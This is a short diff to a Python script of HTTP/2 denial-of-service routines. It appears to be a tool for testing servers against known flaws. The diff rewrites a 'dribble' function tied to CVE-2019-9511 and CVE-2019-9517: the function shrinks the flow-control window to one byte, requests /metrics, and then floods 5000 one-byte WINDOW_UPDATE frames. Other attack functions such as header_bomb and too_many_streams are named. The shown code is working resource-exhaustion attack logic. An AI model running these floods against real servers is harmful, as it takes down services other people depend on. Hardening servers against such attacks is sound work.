@@ -44,12 +44,10 @@ def header_bomb(client):
 
 
 def dribble(client):
-    """A byte at a time, each asked for by itself (CVE-2019-9511, CVE-2019-9517)."""
+    """Few bytes at a time, asked for byte by byte (CVE-2019-9511, CVE-2019-9517)."""
     client.frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1))
     client.request(request(path="/metrics"))
-    for _ in range(3000):
-        if not client.frame(WINDOW_UPDATE, 0, 1, window(1)) or client.read() is None:
-            return
+    flood(client, client.bytes_of(WINDOW_UPDATE, 0, 1, window(1)), 5000)
 
 
 def too_many_streams(client):
